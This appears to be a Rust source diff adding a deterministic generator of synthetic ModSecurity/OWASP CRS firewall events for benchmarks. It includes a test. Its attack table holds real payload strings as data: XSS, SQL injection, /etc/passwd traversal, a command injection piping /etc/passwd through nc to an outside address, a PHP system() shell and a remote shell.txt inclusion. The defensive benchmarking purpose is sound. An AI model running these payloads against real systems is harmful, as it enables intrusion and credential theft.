@@ -1,0 +1,248 @@
+//! Events as a busy gate makes them, as many as are wanted: for benchmarks of what stores and shows events.
+//!
+//! The same number always gives the same event. Sites, clients, paths, rules, texts and answers vary as they do in the wild:
+//! a few are everywhere, most are rare, and scans run for some thousand requests in a row.
+
+use event::{
+    Action, Client, Event, Gate, Header, IdSource, MatchedRule, RequestEvidence, Response, Scores, Severity,
+    Timestamp,
+};
+
+/// A text that one event in so many holds, and no other does.
+pub const NEEDLE: &str = "jndi:ldap://needle-";
+/// See [`NEEDLE`].
+pub const NEEDLE_EVERY: u64 = 100_000;
+/// Events of one scan.
+const SCAN: u64 = 4000;
+/// Events from the beginning of one scan to that of the next.
+const SCAN_EVERY: u64 = 20_000;
+/// The sites, the first of them the busiest.
+pub const SITES: [&str; 8] = ["shop", "blog", "wiki", "mail", "api", "forum", "files", "intranet"];
+
+/// Attacks: tag, first rule id, message, payload.
+const ATTACKS: [(&str, u64, &str, &str); 8] = [
+    (
+        "attack-xss",
+        941_100,
+        "XSS Attack Detected via libinjection",
+        "\"><script>alert(document.cookie)</script>",
+    ),
+    (
+        "attack-sqli",
+        942_100,
+        "SQL Injection Attack Detected via libinjection",
+        "1' UNION SELECT password FROM users--",
+    ),
+    ("attack-lfi", 930_100, "Path Traversal Attack (/../) or (/.../)", "../../../../etc/passwd"),
+    (
+        "attack-rce",
+        932_100,
+        "Remote Command Execution: Unix Command Injection",
+        ";cat /etc/passwd|nc 192.0.2.9 80",
+    ),
+    ("attack-injection-php", 933_100, "PHP Injection Attack: PHP Open Tag Found", "<?php system($_GET[c]);"),
+    ("attack-protocol", 920_270, "Invalid character in request (null character)", "%00"),
+    ("attack-rfi", 931_100, "Possible Remote File Inclusion (RFI) Attack", "http://198.51.100.7/shell.txt"),
+    ("attack-reputation-scanner", 913_100, "Found User-Agent associated with security scanner", "sqlmap/1.8"),
+];
+
+/// Words of paths and parameters.
+const WORDS: [&str; 24] = [
+    "item",
+    "basket",
+    "search",
+    "login",
+    "admin",
+    "image",
+    "style",
+    "user",
+    "order",
+    "page",
+    "list",
+    "news",
+    "post",
+    "comment",
+    "tag",
+    "upload",
+    "api",
+    "v1",
+    "static",
+    "index",
+    "help",
+    "about",
+    "wp-content",
+    "report",
+];
+
+/// Makes events.
+#[derive(Debug)]
+pub struct Synthetic {
+    ids: IdSource,
+    start: i64,
+    span: i64,
+    count: u64,
+}
+
+impl Synthetic {
+    /// `count` events, spread over the days before `end`.
+    pub fn new(count: u64, days: u32, end: Timestamp) -> Self {
+        let span = i64::from(days) * 86_400_000_000;
+        Self { ids: IdSource::new("bench", 7), start: end.as_micros() - span, span, count: count.max(1) }
+    }
+
+    /// When event number `number` happens.
+    pub fn time(&self, number: u64) -> Timestamp {
+        let part = i128::from(number) * i128::from(self.span) / i128::from(self.count);
+        Timestamp::from_micros(self.start + i64::try_from(part).unwrap_or(0))
+    }
+
+    /// Event number `number`, from 0.
+    pub fn event(&self, number: u64) -> Event {
+        let mut random = Random(number);
+        let time = self.time(number);
+        let scan = (number % SCAN_EVERY < SCAN).then_some(number / SCAN_EVERY);
+        let site = SITES[random.skewed(SITES.len())];
+        let action = match random.below(100) {
+            0..70 => Action::Blocked,
+            70..82 => Action::Detected,
+            82..97 => Action::Passed,
+            97..99 => Action::Refused,
+            _ => Action::Failed,
+        };
+        let address = match scan {
+            Some(scan) => 0xc633_0000 + scan as u32 % 65_536,
+            None if random.below(4) == 0 => 0xcb00_7100 + random.skewed(50) as u32,
+            None => 0x0100_0000 + random.skewed(400_000) as u32,
+        };
+        let (status, attacks) = match action {
+            Action::Blocked => (403, 1 + random.below(3)),
+            Action::Detected => ([200, 200, 302, 404][random.below(4) as usize], 1 + random.below(2)),
+            Action::Passed => ([200, 200, 304, 404, 500][random.below(5) as usize], random.below(2)),
+            Action::Refused => (400, 0),
+            Action::Failed => (502, 0),
+        };
+        let attack = match scan {
+            Some(scan) if scan % 3 == 0 => ATTACKS.len() - 1,
+            _ => random.skewed(ATTACKS.len() - 1),
+        };
+        let (tag, first_rule, message, payload) = ATTACKS[attack];
+        let path = match scan {
+            Some(_) => format!("/{}/{:08x}.php", WORDS[random.below(24) as usize], random.below(1 << 32)),
+            None => {
+                let word = |random: &mut Random| WORDS[random.skewed(24)];
+                format!("/{}/{}/{}", word(&mut random), word(&mut random), random.skewed(40))
+            }
+        };
+        let parameter = WORDS[random.below(24) as usize];
+        let value = match number % NEEDLE_EVERY {
+            4711 => format!("{NEEDLE}{number}/a"),
+            _ => format!("{payload}{:06x}", random.below(1 << 24)),
+        };
+        let mut rules: Vec<MatchedRule> = (0..attacks)
+            .map(|_| {
+                let id = first_rule + 10 * random.skewed(20) as u64;
+                rule(id, message, tag, &format!("ARGS:{parameter}"), &value)
+            })
+            .collect();
+        if action == Action::Blocked || action == Action::Detected {
+            let total = format!("Inbound Anomaly Score Exceeded (Total Score: {})", 5 * attacks);
+            rules.push(rule(
+                949_110,
+                &total,
+                "attack-generic",
+                "TX:ANOMALY_SCORE",
+                &(5 * attacks).to_string(),
+            ));
+        }
+        let method = ["GET", "GET", "GET", "POST", "HEAD"][random.below(5) as usize];
+        let evidence = RequestEvidence {
+            line: format!("{method} {path}?{parameter}={value} HTTP/1.1").into(),
+            headers: vec![
+                Header::new("Host", format!("{site}.example")),
+                Header::new(
+                    "User-Agent",
+                    format!(
+                        "Mozilla/5.0 (X11; Linux x86_64; rv:{0}.0) Gecko/20100101 Firefox/{0}.0",
+                        100 + random.below(40)
+                    ),
+                ),
+                Header::new("Cookie", format!("sid={:016x}", random.next())),
+            ],
+            response: Some(Response { status, ..Response::default() }),
+            rules,
+            scores: Scores { inbound: 5 * attacks.cast_signed(), ..Scores::default() },
+            ..RequestEvidence::default()
+        };
+        Event {
+            site: Some(site.to_owned()),
+            severity: if attacks > 0 { Severity::Critical } else { Severity::Notice },
+            client: Some(Client { address: address.to_be_bytes().into(), port: Some(40_000) }),
+            action,
+            ..Event::new(self.ids.next(time), time, "bench", Gate::Request, evidence.into())
+        }
+    }
+}
+
+fn rule(id: u64, message: &str, tag: &str, variable: &str, value: &str) -> MatchedRule {
+    MatchedRule {
+        id,
+        phase: 2,
+        message: message.into(),
+        data: format!("Matched Data: found within {variable}: {value}").into(),
+        severity: Some(Severity::Critical),
+        tags: ["application-multi", tag, "paranoia-level/1", "OWASP_CRS"].map(String::from).to_vec().into(),
+        file: format!("/usr/share/modsecurity-crs/rules/REQUEST-{}.conf", id / 1000),
+        line: (id % 1000) as u32,
+        operator: "rx".into(),
+        variable: variable.into(),
+        value: value.into(),
+        ..MatchedRule::default()
+    }
+}
+
+/// SplitMix64.
+struct Random(u64);
+
+impl Random {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut mixed = self.0;
+        mixed = (mixed ^ mixed >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        mixed = (mixed ^ mixed >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
+        mixed ^ mixed >> 31
+    }
+
+    fn below(&mut self, end: u64) -> u64 {
+        self.next() % end
+    }
+
+    /// Below `end`; low ones are much more frequent.
+    fn skewed(&mut self, end: usize) -> usize {
+        let part = self.below(1 << 20) as f64 / (1 << 20) as f64;
+        ((part * part * part) * end as f64) as usize
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::HashSet;
+
+    use super::*;
+
+    #[test]
+    fn events_vary_and_are_the_same_each_time() {
+        let now = Timestamp::from_micros(1_795_424_686_000_000);
+        let synthetic = Synthetic::new(50_000, 10, now);
+        let events: Vec<Event> = (0..50_000).step_by(7).map(|number| synthetic.event(number)).collect();
+        let different = |of: &dyn Fn(&Event) -> String| events.iter().map(of).collect::<HashSet<_>>().len();
+        assert_eq!(different(&|event| event.id.to_string()), events.len());
+        assert_eq!(different(&|event| event.site.clone().unwrap()), SITES.len());
+        assert_eq!(different(&|event| event.action.to_string()), 5);
+        assert!(different(&|event| event.client.unwrap().address.to_string()) > 2000);
+        assert!(different(&|event| format!("{:?}", event.request().unwrap().path())) > 3000);
+        assert!(events.iter().all(|event| event.time < now && event.time >= synthetic.time(0)));
+        assert!(synthetic.event(4711).to_json().contains(NEEDLE));
+        let again = Synthetic::new(50_000, 10, now);
+        assert_eq!(again.event(7).evidence, events[1].evidence);
+    }
+}
